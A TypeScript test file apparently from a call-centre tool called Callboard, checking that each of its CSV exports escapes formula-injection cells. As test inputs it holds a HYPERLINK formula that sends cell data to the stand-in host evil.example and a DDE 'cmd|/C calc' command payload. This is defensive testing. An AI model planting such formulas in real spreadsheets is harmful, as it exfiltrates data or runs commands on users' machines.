// Every CSV Callboard writes is inert in a spreadsheet: text beginning with = + - @ tab or CR is
// written with a leading ' inside quotes (OWASP's CSV injection advice); numbers stay numbers.
// Each writer is fed a queue, agent, rep, team or template name that is a formula.
import { parse } from 'csv-parse/sync';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { forecastCsv } from '../../app/cli/commands/forecast.ts';
import { metricsCsv } from '../../app/cli/commands/metrics.ts';
import { ingestFile } from '../../ingest/load.ts';
import { openDatabase, type Database } from '../../sql/db.ts';
import { csvCell, csvLine } from '../csv-cell.ts';
import type { ForecastResult } from '../forecast/forecast.ts';
import { queueLog, TZ } from '../test-support/fixture-db.ts';
import { computeMetrics, metricKeys } from '../metrics/metrics.ts';
import { buildReport } from './reports-build.ts';
import { reportCsv } from './reports-csv.ts';
import { weekCsv, type ExportInput } from '../roster/schedule-export.ts';

const QUEUE = '=HYPERLINK("http://evil.example/?"&A1,"billing")';
const AGENT = '@SUM(1+1)*cmd';

/** Cells a spreadsheet would run: text starting with a formula character that is not a plain number. */
function liveFormulas(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: true, skip_empty_lines: true }) as string[][];
  return rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(c));
}

describe('csvCell', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1+1', `"'+1+1"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
    ['-', `"'-"`],
    ['billing', 'billing'],
    ['a,"b"', '"a,""b"""'],
    [' padded ', '" padded "'],
    ['2026-03-10', '2026-03-10'],
    ['-3', '-3'],
    ['+1.5', '+1.5'],
    ['-2e-3', '-2e-3'],
    [-0.25, '-0.25'],
    [42, '42'],
    [null, ''],
    [undefined, '']
  ])('%j is written %s', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('a line joins cells with commas', () => {
    expect(csvLine(['=x', -1, 'ok'])).toBe(`"'=x",-1,ok`);
  });
});

describe('every CSV writer, fed formula names', () => {
  let db: Database;
  let dir: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'callboard-csv-'));
    const path = join(dir, 'queue_log');
    const text = readFileSync(queueLog('service-level.queue_log'), 'utf8').replaceAll('|billing|', `|${QUEUE}|`).replaceAll('PJSIP/7001', AGENT);
    writeFileSync(path, text);
    db = await openDatabase(':memory:');
    const s = await ingestFile(db, path, { timeZone: TZ });
    expect(s.calls_added).toBeGreaterThan(0);
  });
  afterAll(() => {
    db.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('the report .csv', async () => {
    const doc = await buildReport(db, { kind: 'monthly', period: '2026-03', timeZone: TZ, builtBy: 'cli', now: new Date('2026-04-01T11:00:00Z') });
    const csv = reportCsv(doc);
    expect(csv).toContain(`"'${QUEUE.replaceAll('"', '""')}"`);
    expect(liveFormulas(csv)).toEqual([]);
  });

  it('metrics --csv, by queue and by rep', async () => {
    for (const group of ['queue', 'rep'] as const) {
      const m = await computeMetrics(db, { from: '2026-03-01', to: '2026-03-31', by: 'day', group, timeZone: TZ });
      const csv = metricsCsv(m.rows, metricKeys(group));
      expect(csv).toContain(group === 'queue' ? `"'=HYPERLINK(` : `"'@SUM(1+1)*cmd"`);
      expect(liveFormulas(csv)).toEqual([]);
    }
  });

  it('the schedule .csv (rep, team and shift template names)', () => {
    const input = {
      week: {
        week_start: '2026-06-08', status: 'draft', version: 1,
        shifts: [{ rep_id: 'r1', date: '2026-06-08', start_minute: 540, end_minute: 1020, template_id: 7, breaks: [] }]
      },
      reps: [{ rep_id: 'r1', name: '-2+3+cmd|" /C calc"!A0', team: '+team' }],
      templates: [{ id: 7, name: '@early' }],
      coverage: { intervals: [], totals: {} }
    } as unknown as ExportInput;
    const csv = weekCsv(input);
    expect(csv.split('\r\n')[1]).toContain(`"'-2+3+cmd|"" /C calc""!A0","'+team"`);
    expect(csv).toContain(`"'@early"`);
    expect(csv).toContain(',8,8,'); // paid and on-phone hours stay numbers
    expect(liveFormulas(csv)).toEqual([]);
  });

  it('forecast --csv', () => {
    const f = {
      intervals: [{ period_start: '2026-06-08T09:00:00-05:00', queue: QUEUE, calls: 3.5, aht_s: 180, adjustments: ['-10% =x'] }]
    } as unknown as ForecastResult;
    const csv = forecastCsv(f);
    expect(csv.split('\n')[1]).toBe(`2026-06-08T09:00:00-05:00,"'${QUEUE.replaceAll('"', '""')}",3.500,180.0,"'-10% =x"`);
    expect(liveFormulas(csv)).toEqual([]);
  });
});
